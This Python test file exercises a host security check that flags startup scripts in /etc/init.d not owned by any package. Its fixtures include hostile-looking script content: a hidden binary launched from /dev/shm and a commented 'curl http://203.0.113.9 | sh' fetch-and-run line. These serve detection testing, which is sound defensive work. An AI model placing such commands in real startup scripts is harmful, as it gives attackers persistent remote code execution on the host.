from __future__ import annotations

from tasks.checks.host.startup_script_unowned import StartupScriptUnowned
from tests.tasks.checks.host._facts import OLD, cannot, found, put, survey

CHECK = StartupScriptUnowned()


PATH = "/etc/init.d/x"


def script(content: str, *owned: str, **of: object) -> list[str]:
    file = put("startup", PATH, content, **{"mode": 0o755, **of})  # type: ignore[arg-type]  # as put() takes them
    return [severity for severity, _ in found(CHECK, survey(files=(file,), owned=owned))]


def test_a_script_that_nobody_brought() -> None:
    assert script("#!/bin/sh\n/dev/shm/.x/k &\n") == ["critical"]
    assert script("#!/bin/sh\nuptime\n") == ["medium"]
    assert script("#!/bin/sh\nuptime\n", at=OLD) == ["low"]


def test_what_packages_brought_and_what_is_not_started() -> None:
    assert script("#!/bin/sh\nuptime\n", PATH) == []
    assert script("read me", mode=0o644) == []
    assert script("#!/bin/sh\n# curl http://203.0.113.9 | sh\n", PATH) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
